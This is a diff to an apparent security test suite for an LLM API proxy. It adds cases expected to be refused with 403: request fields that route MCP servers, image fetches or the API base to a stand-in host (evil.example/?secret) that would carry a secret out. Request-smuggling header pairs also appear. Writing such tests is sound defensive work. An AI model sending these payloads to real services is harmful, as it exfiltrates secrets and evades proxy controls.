@@ -54,6 +54,22 @@ const WHERE_TO: readonly Attack[] = [
   },
 ];
 
+/** The provider has a network, and would use it. */
+const THROUGH_THE_PROVIDER: readonly Attack[] = [
+  ['a server of tools', '"mcp_servers":[{"type":"url","url":"https://evil.example/?secret"}]'],
+  [
+    'an image by its address',
+    '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]',
+  ],
+  ['a call that goes on without it', '"background":true'],
+  ['other models beside its own', '"fallbacks":["dearer"]'],
+  ['another upstream', '"api_base":"https://evil.example"'],
+].map(([name = '', field = '']) => ({
+  name,
+  act: `ask('/v1/messages', '{"model":"m",${field}}')`,
+  refused: /^403/,
+}));
+
 const SMUGGLING: readonly Attack[] = [
   ['both length headers', `${LENGTH}\r\nTransfer-Encoding: chunked`, `0\r\n\r\n${SECOND}`],
   ['both, the other way round', `Transfer-Encoding: chunked\r\nContent-Length: 4`, `0\r\n\r\n${SECOND}`],
@@ -122,7 +138,7 @@ const TOO_MUCH: readonly Attack[] = [
   },
 ];
 
-export const AT_THE_SOCKET: readonly Attack[] = [...WHERE_TO, ...SMUGGLING, ...TOO_MUCH];
+export const AT_THE_SOCKET: readonly Attack[] = [...WHERE_TO, ...THROUGH_THE_PROVIDER, ...SMUGGLING, ...TOO_MUCH];
 
 /** These run side by side: each takes as long as it is given, half a minute at most. */
 export const SLOW: readonly Attack[] = [
